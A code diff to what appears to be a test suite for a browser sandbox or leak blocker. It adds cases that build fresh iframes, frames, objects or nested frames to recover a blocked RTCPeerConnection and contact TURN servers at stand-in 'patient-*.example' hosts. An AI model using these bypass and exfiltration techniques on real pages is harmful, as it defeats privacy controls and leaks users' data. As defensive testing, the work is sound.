@@ -18,10 +18,19 @@ const link = (rel: string, more = ''): WayOut =>
   way(`const l = document.createElement('link'); l.rel = '${rel}'; ${more}; l.href = u; document.head.append(l);`);
 
 const kept = 'globalThis.kept = [...(globalThis.kept ?? []), p];';
+/** Asks for a name out of a frame, in which Chromium puts back what a page has had taken away. `f`: how the page comes by it. */
+const byFrame = (what: string, made: string): WayOut =>
+  byName(
+    `patient-${what}.of-`,
+    `${made}; ${asksServer(`'turn:patient-${what}.of-' + port + '.example:' + port + '?transport=tcp'`, '(f.contentWindow ?? window[length - 1])')}`,
+  );
+const put = 'document.body.append(f)';
 /** Asks a STUN or TURN server for the page's own address. */
 const asksServer = (url: string, from = 'globalThis'): string => `
   const p = new ${from}.RTCPeerConnection({ iceServers: [{ urls: ${url}, username: 'PATIENT', credential: 'x' }] });
-  p.createDataChannel('x'); ${kept} await p.setLocalDescription(await p.createOffer());`;
+  p.createDataChannel('x'); ${kept}
+  (globalThis.asked ??= []).push(new Promise((end) => p.addEventListener('icegatheringstatechange', () => p.iceGatheringState === 'complete' && end())));
+  await p.setLocalDescription(await p.createOffer());`;
 /** Talks to a made-up peer, whose name (256 letters) says what somebody wants to know. */
 const talksToPeer = (candidate: string): string => `
   const p = new RTCPeerConnection(); p.createDataChannel('x'); ${kept}
@@ -142,6 +151,39 @@ export const waysOut: Readonly<Record<string, WayOut>> = {
   'a TURN server by its name': byName(
     'patient-turn.example',
     asksServer("'turn:patient-turn.example:' + port + '?transport=tcp'"),
+  ),
+  'a TURN server by its name, out of an empty frame': byFrame(
+    'empty',
+    `const f = document.createElement('iframe'); ${put}`,
+  ),
+  '… out of one by another name': byFrame(
+    'named',
+    `const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); ${put}`,
+  ),
+  '… out of a set of frames': byFrame(
+    'set',
+    `const s = document.createElement('frameset'); document.documentElement.append(s); const f = document.createElement('frame'); s.append(f)`,
+  ),
+  '… out of an object': byFrame(
+    'object',
+    `const f = document.createElement('object'); f.data = 'about:blank'; f.type = 'text/html'; ${put}`,
+  ),
+  '… out of an element of its own': byFrame(
+    'own',
+    `class Own extends HTMLIFrameElement {} customElements.define('o-' + port, Own, { extends: 'iframe' }); const f = new Own(); ${put}`,
+  ),
+  '… out of a document that was read': byFrame(
+    'read',
+    `const f = new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe'); ${put}`,
+  ),
+  '… out of a paper that is put in once more': byFrame(
+    'paper',
+    `const f = document.querySelector('iframe[title]') ?? document.createElement('iframe'); f.removeAttribute('sandbox'); f.remove(); ${put}`,
+  ),
+  '… out of a frame within one': byFrame(
+    'within',
+    `const of = document.createElement('iframe'); document.body.append(of);
+     const f = of.contentDocument.createElement('iframe'); of.contentDocument.body.append(f)`,
   ),
   'fetch from a name': byName('patient-fetch.example', `await fetch('http://patient-fetch.example/');`),
 };
